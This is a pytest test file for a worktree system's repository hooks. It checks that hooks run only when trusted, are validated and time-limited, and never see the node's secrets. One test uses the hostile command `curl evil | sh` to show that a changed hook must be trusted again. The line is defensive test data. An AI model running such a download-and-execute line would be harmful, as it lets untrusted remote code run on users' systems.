"""Hooks of a repository: read from its commit, run only when trusted, bounded, on record."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest

from p2p.protocol.errors import DomainError
from swarm.git.repository import Repository
from swarm.worktrees.actions import repository_named, trust_hooks
from swarm.worktrees.hooks import Hook, read_hooks
from swarm.worktrees.preparation import prepare, read_record, tear_down
from swarm.worktrees.trust import decisions, distrust, is_trusted, note_seen, trust
from tests.support.git_remote import GitRemote

NOW = datetime(2026, 1, 1, tzinfo=UTC)
SETUP = "echo ready > ready.txt; echo said"


def with_hooks(repo: Repository, remote: GitRemote, text: str) -> str:
    """Push a `.voidlux.toml` and return its commit, which the clone has."""
    commit = remote.push("main", {".voidlux.toml": text})
    repo.fetch()
    return commit


def toml(setup: str = SETUP, **more: object) -> str:
    lines = [f"{name} = {value!r}" for name, value in {"setup": setup, **more}.items()]
    return "\n".join(["[worktree]", *lines, ""])


@pytest.fixture
def run_dir(tmp_path: Path) -> Path:
    return tmp_path / "run"


def test_hooks_are_read_from_the_commit(repo: Repository, remote: GitRemote, base: str) -> None:
    commit = with_hooks(repo, remote, toml(teardown="echo bye", time_limit_s=7))

    assert read_hooks(repo, base) == {}
    assert read_hooks(repo, commit) == {
        "setup": Hook("setup", SETUP, 7.0),
        "teardown": Hook("teardown", "echo bye", 7.0),
    }


def test_a_commit_is_asked_once_for_its_hooks_and_not_before_it_is_here(
    repo: Repository, remote: GitRemote, git_commands: list[str]
) -> None:
    commit = remote.push("main", {".voidlux.toml": toml()})
    with pytest.raises(DomainError) as missing:
        read_hooks(repo, commit)
    repo.fetch()
    git_commands.clear()

    first, second = read_hooks(repo, commit), read_hooks(repo, commit)

    assert missing.value.code == "commit_missing"
    assert first == second == {"setup": Hook("setup", SETUP, 300.0)}
    assert git_commands == ["cat-file --batch-check", f"show {commit}:.voidlux.toml"]


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("[worktree", "is not TOML"),
        ("worktree = 1", "worktree is no table"),
        ("[worktree]\nsetpu = 'x'", "worktree.setpu is unknown"),
        ("[worktree]\nsetup = 1", "worktree.setup is no command"),
        ("[worktree]\nsetup = ' '", "worktree.setup is no command"),
        (f"[worktree]\nsetup = '{'x' * 4001}'", "of 4001 characters exceeds 4000"),
        ("[worktree]\ntime_limit_s = 0", "0 to 3600 s are allowed"),
        ("[worktree]\ntime_limit_s = true", "is no number"),
    ],
)
def test_a_wrong_file_says_what_is_wrong(
    repo: Repository, remote: GitRemote, text: str, why: str
) -> None:
    commit = with_hooks(repo, remote, text)

    with pytest.raises(DomainError, match=why) as refused:
        read_hooks(repo, commit)

    assert refused.value.code == "bad_hooks"


def test_an_untrusted_hook_is_shown_and_not_run(
    repo: Repository, remote: GitRemote, tree: Path, run_dir: Path
) -> None:
    commit = with_hooks(repo, remote, toml())

    outcome = prepare(repo, tree, commit, run_dir).hooks["setup"]

    assert not (tree / "ready.txt").exists()
    assert outcome.state == "not_trusted"
    assert outcome.detail.endswith(f"manage.py worktrees trust {repo.own_dir.name}")
    assert [(each.text, each.trusted_at) for each in decisions(repo)] == [(SETUP, None)]


def test_a_trusted_hook_runs_once_and_leaves_its_evidence(
    repo: Repository, remote: GitRemote, tree: Path, run_dir: Path
) -> None:
    commit = with_hooks(repo, remote, toml("echo run >> runs.txt; echo said"))
    trust_hooks(repo, now=NOW)

    first = prepare(repo, tree, commit, run_dir)
    again = prepare(repo, tree, commit, run_dir)

    assert (first.hooks["setup"].state, first.hooks["setup"].exit_code) == ("ran", 0)
    assert again == first
    assert (tree / "runs.txt").read_text() == "run\n"
    assert (run_dir / "setup.log").read_text() == "said\n"


def test_a_changed_hook_needs_trust_anew(
    repo: Repository, remote: GitRemote, tree: Path, run_dir: Path
) -> None:
    with_hooks(repo, remote, toml())
    trust_hooks(repo, now=NOW)
    commit = with_hooks(repo, remote, toml("curl evil | sh"))

    outcome = prepare(repo, tree, commit, run_dir).hooks["setup"]

    assert outcome.state == "not_trusted"
    assert [bool(each.trusted_at) for each in decisions(repo)] == [False, True]


def test_a_failing_hook_is_an_error_of_the_attempt(
    repo: Repository, remote: GitRemote, tree: Path, run_dir: Path
) -> None:
    commit = with_hooks(repo, remote, toml("echo no network; exit 3"))
    trust_hooks(repo, now=NOW)

    with pytest.raises(DomainError, match="ended with 3: echo no network; exit 3") as failed:
        prepare(repo, tree, commit, run_dir)

    assert failed.value.code == "setup_failed"
    assert str(failed.value).endswith("\nno network")
    assert read_record(run_dir) is None


def test_a_hook_that_hangs_is_ended_with_all_it_started(
    repo: Repository, remote: GitRemote, tree: Path, run_dir: Path
) -> None:
    commit = with_hooks(repo, remote, toml("sleep 1000 & sleep 1000", time_limit_s=0.3))
    trust_hooks(repo, now=NOW)

    with pytest.raises(DomainError, match=r"ran longer than its limit of 0\.3 s") as failed:
        prepare(repo, tree, commit, run_dir)

    assert failed.value.code == "setup_failed"


def test_a_hook_sees_no_secret_of_the_node(
    repo: Repository,
    remote: GitRemote,
    tree: Path,
    run_dir: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("VOIDLUX_AUTH_SECRET", "do-not-leak")
    commit = with_hooks(repo, remote, toml("env"))
    trust_hooks(repo, now=NOW)

    prepare(repo, tree, commit, run_dir)

    shown = (run_dir / "setup.log").read_text()
    assert f"VOIDLUX_WORKTREE={tree}" in shown and "do-not-leak" not in shown


@pytest.mark.parametrize(("teardown", "state"), [("echo bye", "ran"), ("exit 4", "failed")])
def test_a_tear_down_runs_once_and_stops_nothing(
    repo: Repository, remote: GitRemote, tree: Path, run_dir: Path, teardown: str, state: str
) -> None:
    text = toml(teardown=f"echo run >> {run_dir.parent}/runs; {teardown}")
    commit = with_hooks(repo, remote, text)
    trust_hooks(repo, now=NOW)
    prepare(repo, tree, commit, run_dir)

    tear_down(repo, tree, commit, run_dir)
    tear_down(repo, tree, commit, run_dir)

    record = read_record(run_dir)
    assert record is not None
    assert {kind: each.state for kind, each in record.hooks.items()} == {
        "setup": "ran",
        "teardown": state,
    }
    assert (run_dir.parent / "runs").read_text() == "run\n"


def test_a_wrong_file_does_not_keep_a_worktree_from_its_end(
    repo: Repository, remote: GitRemote, tree: Path, run_dir: Path
) -> None:
    tear_down(repo, tree, with_hooks(repo, remote, "[worktree"), run_dir)

    assert read_record(run_dir) is None


def test_trust_is_about_one_text_and_can_be_taken_back(repo: Repository) -> None:
    one, two = Hook("setup", "one", 1.0), Hook("setup", "two", 1.0)
    note_seen(repo, [one, two], now=NOW)

    trust(repo, one.digest[:10], now=NOW)
    assert (is_trusted(repo, one), is_trusted(repo, two)) == (True, False)
    note_seen(repo, [one], now=NOW)
    assert is_trusted(repo, one)
    distrust(repo)

    assert not is_trusted(repo, one)
    with pytest.raises(DomainError, match="0 hooks of this repository begin with 'ffff'"):
        trust(repo, "ffff", now=NOW)


def test_the_same_text_as_another_kind_of_hook_is_another_decision(repo: Repository) -> None:
    note_seen(repo, [Hook("setup", "x", 1.0)], now=NOW)
    trust(repo, now=NOW)

    assert not is_trusted(repo, Hook("teardown", "x", 1.0))


def test_only_so_many_hooks_are_remembered_and_trusted_ones_always(repo: Repository) -> None:
    first = Hook("setup", "first", 1.0)
    note_seen(repo, [first], now=NOW)
    trust(repo, now=NOW)

    for number in range(60):
        note_seen(repo, [Hook("setup", f"hook {number}", 1.0)], now=NOW)

    assert len(decisions(repo)) == 51
    assert is_trusted(repo, first)


def test_a_repository_without_hooks_has_none_to_trust(repo: Repository) -> None:
    with pytest.raises(DomainError) as refused:
        trust_hooks(repo, now=NOW)

    assert refused.value.code == "unknown_hook"


def test_a_repository_is_known_by_url_and_by_id(repo: Repository, remote: GitRemote) -> None:
    for name in (repo.url, repo.own_dir.name, str(remote.path)):
        assert repository_named(name).path == repo.path
